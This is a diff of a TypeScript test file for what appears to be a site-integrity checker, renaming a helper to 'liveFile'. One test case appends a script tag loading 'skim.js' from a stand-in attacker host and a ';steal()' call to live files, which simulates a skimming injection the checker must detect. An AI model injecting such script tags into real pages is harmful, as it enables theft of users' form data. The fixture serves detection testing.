@@ -53,7 +53,7 @@ async function check(options: { remember?: string; accept?: boolean; dist?: stri
   return { code, said: lines.join('\n') };
 }
 
-const path = (name: string) => join(live, name);
+const liveFile = (name: string) => join(live, name);
 it.each<[fault: string, tamper: () => unknown, differences: string[]]>([
   [
     'a header that is missing, changed or new',
@@ -94,15 +94,15 @@ it.each<[fault: string, tamper: () => unknown, differences: string[]]>([
   [
     'a page or a script that somebody has changed',
     () => {
-      appendFileSync(path('member/index.html'), '<script src="//evil.example/skim.js"></script>');
-      appendFileSync(path('assets/main-1.js'), ';steal()');
+      appendFileSync(liveFile('member/index.html'), '<script src="//evil.example/skim.js"></script>');
+      appendFileSync(liveFile('assets/main-1.js'), ';steal()');
     },
     ['/form/member: not what was built.', '/form/assets/main-1.js: not what was built.'],
   ],
   [
     'a script that is not there, ours or another site’s',
     () => {
-      rmSync(path('assets/main-1.js'));
+      rmSync(liveFile('assets/main-1.js'));
       const scenario = `${sandbox.addresses.api}/sandbox/scenarios/gatewayScript`;
       return fetch(scenario, { method: 'PUT', body: '{"status":404}' });
     },
